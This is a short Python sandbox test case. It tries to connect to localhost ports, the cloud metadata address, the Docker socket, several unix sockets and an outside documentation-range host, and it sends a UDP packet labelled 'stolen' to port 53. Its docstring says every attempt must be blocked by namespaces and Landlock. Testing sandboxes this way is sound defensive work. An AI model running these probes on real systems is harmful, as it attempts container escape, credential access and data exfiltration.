"""Sends what it finds to the internet, to the machine's own ports, to a metadata service and to the container's socket.

Must not: reach any.
Stopped by: the network namespace has no network, and Landlock and the private root keep sockets of the machine out of sight.
"""

# %% ex1_code
import socket, json

targets = json.load(open("targets.json"))
tries = [
    (socket.AF_INET, ("127.0.0.1", targets["port"])),
    (socket.AF_INET, ("169.254.169.254", 80)),
    (socket.AF_INET, ("192.0.2.1", 443)),
    (socket.AF_INET6, ("::1", targets["port"])),
    (socket.AF_UNIX, "/var/run/docker.sock"),
    (socket.AF_UNIX, targets["socket"]),
    (socket.AF_UNIX, "\0" + targets["abstract"]),
    (socket.AF_UNIX, targets["runtime"] + "/zygote"),
]
for family, address in tries:
    with socket.socket(family) as client:
        client.settimeout(1)
        try:
            client.connect(address)
            print("SUCCEEDED", address, client.recv(100))
        except OSError as error:
            print("refused", error)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    try:
        client.sendto(b"stolen", ("192.0.2.1", 53))
    except OSError as error:
        print("refused", error)
